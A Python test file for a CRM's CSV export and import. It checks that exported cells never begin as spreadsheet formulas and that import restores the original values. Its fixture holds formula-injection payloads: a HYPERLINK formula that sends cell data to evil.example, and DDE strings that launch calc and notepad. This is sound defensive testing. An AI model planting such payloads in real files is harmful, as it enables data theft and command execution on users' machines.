"""Issue 29 item 12: `retain export` never hands a spreadsheet a formula, and `retain import` reads the values back.

Real demo CRM, the real `retain export` / `retain import` commands, the csv module reading the file the
way a spreadsheet would see its cells.
"""

from __future__ import annotations

import csv
from pathlib import Path

from conftest import PG, TODAY
from sqlalchemy import select

from core.settings import load_settings
from integrations.crm.models import Account, Activity, Contact, Ticket
from tools.services import Services

FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")',
    "subject": "=cmd|' /C calc'!A0",
    "body": "@SUM(1+1)*cmd|' /C calc'!A0",
    "contact": "+1 (555) 0100",
    "note": "-2+3+cmd|' /C notepad'!'A1'",
    "tab": "\t=1+1",
    "quoted": "'=already shown as text",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _plant(rt: Services) -> dict[str, int]:
    with rt.store.session() as s:
        acc = s.scalars(select(Account).order_by(Account.id)).first()
        acc.name = FORMULAS["name"]
        t = s.scalars(select(Ticket).where(Ticket.account_id == acc.id)).first()
        t.subject, t.body = FORMULAS["subject"], FORMULAS["body"]
        c = s.scalars(select(Contact).where(Contact.account_id == acc.id)).first()
        c.name, c.role = FORMULAS["contact"], FORMULAS["tab"]
        n = s.scalars(select(Activity).where(Activity.account_id == acc.id)).first()
        n.subject, n.body = FORMULAS["quoted"], FORMULAS["note"]
        return {"account": acc.id, "ticket": t.id, "contact": c.id, "note": n.id}


def _values(rt: Services, ext: dict[str, str]) -> dict[str, str]:
    with rt.store.session() as s:
        acc = s.scalars(select(Account).where(Account.external_id == ext["account"])).one()
        t = s.scalars(select(Ticket).where(Ticket.external_id == ext["ticket"])).one()
        c = s.scalars(select(Contact).where(Contact.external_id == ext["contact"])).one()
        n = s.scalars(select(Activity).where(Activity.external_id == ext["note"])).one()
        return {"name": acc.name, "subject": t.subject, "body": t.body, "contact": c.name, "tab": c.role,
                "quoted": n.subject, "note": n.body}


def test_exported_csv_cells_never_start_a_formula_and_import_gives_the_values_back(rt, run_cli, tmp_path):
    ids = _plant(rt)
    folder = tmp_path / "export"
    code, _out, err = run_cli("export", str(folder), env_extra={"RETAIN_DATA_DIR": str(rt.settings.data_dir)})
    assert code == 0, err
    cells = []
    for path in folder.glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as fh:
            cells += [c for row in csv.reader(fh) for c in row]
    assert cells and not [c for c in cells if c.startswith(FORMULA_START)]
    for v in FORMULAS.values():
        assert v not in cells and "'" + v in cells  # shown as text, the value itself intact after the quote

    ext = {}
    with rt.store.session() as s:
        for key, model in (("account", Account), ("ticket", Ticket), ("contact", Contact), ("note", Activity)):
            e = s.scalar(select(model.external_id).where(model.id == ids[key]))
            ext[key] = e or f"retain-{model.__tablename__}-{ids[key]}"
    extra: dict[str, str] = {}
    if PG:
        db = PG.name_for(f"{tmp_path}/restored")
        PG.create(db)
        PG.extra.append(db)
        extra["database_url"] = PG.url(db)
    new = Services(load_settings(data_dir=str(tmp_path / "restored"), today=TODAY.isoformat(), **extra))
    env = {"RETAIN_DATA_DIR": str(tmp_path / "restored"),
           **({"RETAIN_DATABASE_URL": extra["database_url"]} if extra else {})}
    code, _out, err = run_cli("import", "all", str(folder), env_extra=env)
    assert code == 0, err
    assert _values(new, ext) == {k: v.strip() for k, v in FORMULAS.items()}  # imports trim whitespace, as ever


def test_a_leading_quote_is_only_removed_where_export_added_it(tmp_path):
    from integrations.crm.files import read_rows

    path = Path(tmp_path / "people.csv")
    path.write_text("name,note\n'=SUM(A1),'plain quote\n''-x,it's fine\n", encoding="utf-8")
    rows = [r for _, r in read_rows(path)[0]]
    assert rows == [{"name": "=SUM(A1)", "note": "'plain quote"}, {"name": "'-x", "note": "it's fine"}]
